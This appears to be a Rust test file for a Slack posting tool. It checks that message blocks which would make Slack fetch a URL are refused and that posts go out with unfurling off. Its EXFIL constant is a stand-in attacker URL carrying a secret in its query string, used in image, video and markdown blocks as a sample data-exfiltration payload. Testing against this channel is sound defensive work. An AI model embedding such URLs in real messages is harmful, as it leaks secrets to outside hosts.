//! No post makes Slack fetch a URL, against the simulated Web API: blocks with images,
//! videos, files or other fetched URLs are refused before anything is sent, in every posting
//! tool and in dry runs; every post and update goes out with link and media unfurling off;
//! links in text still reach Slack.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::{ALLOWED, Harness, workspace};
use serde_json::{Value, json};

const EXFIL: &str = "https://attacker.example/x.png?d=hunter2-attackmarker-7731";

async fn posting() -> Harness {
    Harness::start(workspace(), &["--allow-post", "--channels", ALLOWED]).await
}

/// Blocks that would make Slack fetch `EXFIL`, and where.
fn fetching_blocks() -> Vec<(Value, &'static str)> {
    let image = json!({"type": "image", "image_url": EXFIL, "alt_text": "graph"});
    let text = json!({"type": "mrkdwn", "text": "p99 latency"});
    vec![
        (json!([image]), "image"),
        (
            json!([{"type": "context", "elements": [text, image]}]),
            "/blocks/0/elements/1",
        ),
        (
            json!([{"type": "section", "text": text, "accessory": image}]),
            "/blocks/0/accessory",
        ),
        (
            json!([{"type": "image", "slack_file": {"url": EXFIL}, "alt_text": "graph"}]),
            "image",
        ),
        (
            json!([{"type": "video", "title": {"type": "plain_text", "text": "t"},
                "video_url": EXFIL, "thumbnail_url": EXFIL, "alt_text": "t"}]),
            "video",
        ),
        (
            json!([{"type": "markdown", "text": format!("![graph]({EXFIL})")}]),
            "Markdown image",
        ),
    ]
}

#[tokio::test]
async fn blocks_that_make_slack_fetch_a_url_are_refused_before_posting() {
    let h = posting().await;
    let own = h
        .ok(
            "post_message",
            json!({"channel": "#incidents", "text": "investigating"}),
        )
        .await
        .structured["ts"]
        .as_str()
        .unwrap()
        .to_owned();
    h.sim.state.clear_requests();
    for (blocks, needle) in fetching_blocks() {
        for (tool, mut args) in [
            ("post_message", json!({"channel": "#incidents"})),
            (
                "post_message",
                json!({"channel": "#incidents", "dry_run": true}),
            ),
            (
                "reply_in_thread",
                json!({"channel": "#incidents", "thread_ts": own}),
            ),
            (
                "update_message",
                json!({"channel": "#incidents", "ts": own}),
            ),
        ] {
            args["text"] = json!("see the graph");
            args["blocks"] = blocks.clone();
            let msg = h.fails(tool, args).await;
            assert!(
                msg.contains("Slack fetches such a URL") && msg.contains(needle),
                "{tool} {blocks}: {msg}"
            );
            assert!(!msg.contains("hunter2"), "{msg}");
        }
    }
    let writes: Vec<String> = h
        .methods()
        .into_iter()
        .filter(|m| m.starts_with("chat."))
        .collect();
    assert!(writes.is_empty(), "{writes:?}");
    for m in h.sim.state.messages("incidents") {
        assert!(m.blocks.is_none(), "{m:?}");
    }
}

#[tokio::test]
async fn every_post_and_update_is_sent_without_unfurls() {
    let h = posting().await;
    let text = "runbook: <https://runbooks.example/db-pool|db pool>";
    let ts = h
        .ok(
            "post_message",
            json!({"channel": "#incidents", "text": text}),
        )
        .await
        .structured["ts"]
        .as_str()
        .unwrap()
        .to_owned();
    h.ok(
        "reply_in_thread",
        json!({"channel": "#incidents", "thread_ts": ts, "text": text}),
    )
    .await;
    h.ok(
        "update_message",
        json!({"channel": "#incidents", "ts": ts, "text": format!("resolved; {text}")}),
    )
    .await;
    let report = json!({"channel": "#incidents", "title": "db pool exhausted",
        "severity": "high", "summary": "payment-service cannot get connections"});
    let r = h.ok("post_incident_report", report.clone()).await;
    let mut update = report;
    update["update_ts"] = r.structured["ts"].clone();
    h.ok("post_incident_report", update).await;

    let writes: Vec<_> = h
        .sim
        .state
        .requests()
        .into_iter()
        .filter(|r| r.method == "chat.postMessage" || r.method == "chat.update")
        .collect();
    let methods: Vec<&str> = writes.iter().map(|r| r.method.as_str()).collect();
    assert_eq!(
        methods,
        [
            "chat.postMessage",
            "chat.postMessage",
            "chat.update",
            "chat.postMessage",
            "chat.update"
        ]
    );
    for w in &writes {
        assert_eq!(
            w.params["unfurl_links"], false,
            "{} {:?}",
            w.method, w.params
        );
        assert_eq!(
            w.params["unfurl_media"], false,
            "{} {:?}",
            w.method, w.params
        );
    }
    let first = h.sim.state.messages("incidents");
    assert!(
        first.iter().any(|m| m
            .text
            .contains("<https://runbooks.example/db-pool|db pool>")),
        "links in text reach Slack as links"
    );
    let dry = h
        .ok(
            "update_message",
            json!({"channel": "#incidents", "ts": ts, "text": "x", "dry_run": true}),
        )
        .await;
    assert_eq!(dry.structured["request"]["body"]["unfurl_links"], false);
}
